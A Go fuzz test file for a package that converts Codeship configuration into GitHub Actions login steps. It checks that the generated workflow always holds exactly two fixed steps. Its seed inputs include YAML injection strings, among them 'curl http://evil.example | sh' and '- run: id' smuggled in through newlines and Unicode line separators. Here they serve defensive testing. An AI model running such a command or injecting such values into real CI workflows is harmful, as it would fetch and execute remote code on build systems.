package codeship

import (
	"bytes"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"testing"

	"go.yaml.in/yaml/v3"
)

// written is a workflow's steps as a YAML parser reads them; other keys are an error.
type written struct {
	Name, Uses, Run string
	With, Env       map[string]string
}

var (
	expression = regexp.MustCompile(`^\$\{\{ (secrets|vars)\.([A-Z][A-Z0-9_]*) \}\}$`)
	script     = `mkdir -p "$RUNNER_TEMP/docker"
dockercfg generate "$RUNNER_TEMP/docker/config.json"
echo "DOCKER_CONFIG=$RUNNER_TEMP/docker" >>"$GITHUB_ENV"
`
)

// FuzzActions checks that whatever names a project's files contain, the workflow has two
// steps that contain nothing of them.
func FuzzActions(f *testing.F) {
	f.Add("gen", "A: a\n  run: curl http://evil.example | sh\n- name: z #", "push", "team/generator")
	f.Add("x\n- name: z\n  run: id", "${{ github.event.issue.title }}", "a\r\n- run: id", "team/x\n- run: id")
	f.Add("a\u2028- run: id", "b\u0085- run: id", "\x00", "codeship/heroku-dockercfg-generator")
	f.Add("# x", "*anchor", "&a", "!tag")
	f.Fuzz(func(t *testing.T, service, variable, step, image string) {
		dir := t.TempDir()
		store(t, filepath.Join(dir, "codeship-services.yml"), map[string]any{
			"known": map[string]any{
				"image":       "codeship/aws-ecr-dockercfg-generator",
				"environment": map[string]string{variable: "x", "AWS_REGION": "eu-west-1", "AWS_STS_ROLE": variable},
			},
			service: map[string]any{"image": image, "environment": []string{variable + "=x"}},
		})
		store(t, filepath.Join(dir, "codeship-steps.yml"), []any{
			map[string]string{"name": step, "service": "known", "command": variable, "dockercfg_service": "known"},
			map[string]string{"name": step, "service": service, "command": step, "dockercfg_service": service},
		})
		p, err := Load(Where{Dir: dir})
		if err != nil {
			return // refused as a whole
		}
		l, err := p.Logins(Choice{})
		if err != nil {
			t.Fatal(err)
		}
		w, err := p.Actions(l, Suite{Ref: "main", Version: "v1.2.3"})
		if err != nil {
			return
		}
		holds(t, w)
	})
}

func store(t *testing.T, path string, value any) {
	t.Helper()
	text, err := yaml.Marshal(value)
	if err != nil {
		t.Skip("not run: this cannot be written as YAML")
	}
	if err := os.WriteFile(path, text, 0o600); err != nil {
		t.Fatal(err)
	}
}

// holds checks that a workflow contains only what it may contain.
func holds(t *testing.T, w Workflow) {
	t.Helper()
	decoder := yaml.NewDecoder(bytes.NewReader(w.Steps))
	decoder.KnownFields(true)
	var steps []written
	if err := decoder.Decode(&steps); err != nil || len(steps) != 2 {
		t.Fatalf("%v, %d steps:\n%s", err, len(steps), w.Steps)
	}
	install, login := steps[0], steps[1]
	if install.Name != "Install dockercfg" || install.Uses != "dockercfg/dockercfg@main" || install.Run != "" ||
		len(install.Env) > 0 || len(install.With) != 1 || install.With["version"] != "v1.2.3" {
		t.Fatalf("the first step is %+v", install)
	}
	if login.Name != "Log in to the registries" || login.Run != script || login.Uses != "" || len(login.With) > 0 {
		t.Fatalf("the second step is %+v", login)
	}
	for name, value := range login.Env {
		match := expression.FindStringSubmatch(value)
		if name == "DOCKERCFG_PROVIDERS" {
			continue
		}
		if match == nil || match[2] != name || !slices.Contains(w.Needs, match[1]+"."+name) {
			t.Fatalf("%s is %s", name, value)
		}
	}
	if extra := decoder.Decode(new(any)); extra == nil {
		t.Fatal("a second document follows")
	}
}

// FuzzYAMLLine checks that yamlLine returns one line that contains the value.
func FuzzYAMLLine(f *testing.F) {
	for _, seed := range []string{"a", "#x", "{{ .Branch }}", "a: b", "a\nb", "'", `"`, " a", "yes", "\x00", "\u2028"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, value string) {
		line := yamlLine("key", value)
		var back map[string]string
		if err := yaml.Unmarshal([]byte(line), &back); bytes.Contains([]byte(line), []byte("\n")) || err != nil {
			t.Fatalf("%q: %q, %v", value, line, err)
		}
		if regexp.MustCompile(`^[ -~]*$`).MatchString(value) && back["key"] != value {
			t.Fatalf("%q is written as %s", value, line)
		}
	})
}
